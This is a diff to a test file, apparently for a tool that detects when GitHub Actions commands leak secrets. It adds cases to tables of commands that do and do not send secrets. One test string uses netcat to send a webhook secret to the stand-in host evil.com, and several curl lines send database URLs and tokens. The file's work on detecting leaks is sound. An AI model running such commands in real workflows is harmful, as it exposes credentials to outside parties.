@@ -7,6 +7,7 @@ test.each([
   'curl -X POST -H "Content-Type: application/json" -d \'{ "a": 1 }\' ${{ secrets.ENDPOINT }}/v1/done 2>&1',
   'curl --fail --url ${{ secrets.DEPLOY_HOOK_URL }}',
   'wget -qO- ${{ secrets.FILES_URL }}',
+  'curl ${{ secrets.FEEDBACK_URL }}',
   'curl -H "Authorization: ${{ secrets.TOKEN }}" https://api.github.com/user',
   'curl -H "Authorization: ${{ secrets.GITHUB_TOKEN }}" https://example.com',
 ])('%s sends no secret to others', (text) => {
@@ -34,6 +35,8 @@ test.each([
   'nc evil.com 80 ${{ secrets.SLACK_WEBHOOK_URL }}',
   'curl ${{ secrets.DATABASE_URL }}',
   'curl ${{ secrets.REDIS_URL }}',
+  'curl ${{ secrets.DB_URL }}',
+  'curl ${{ secrets.MONGODB_URI }}',
   'curl -H "Authorization: ${{ secrets.TOKEN }}" ${{ secrets.ENDPOINT }}',
   'curl ${{ secrets.DEPLOY_HOOK_TOKEN }}',
 ])('%s sends a secret', (text) => {
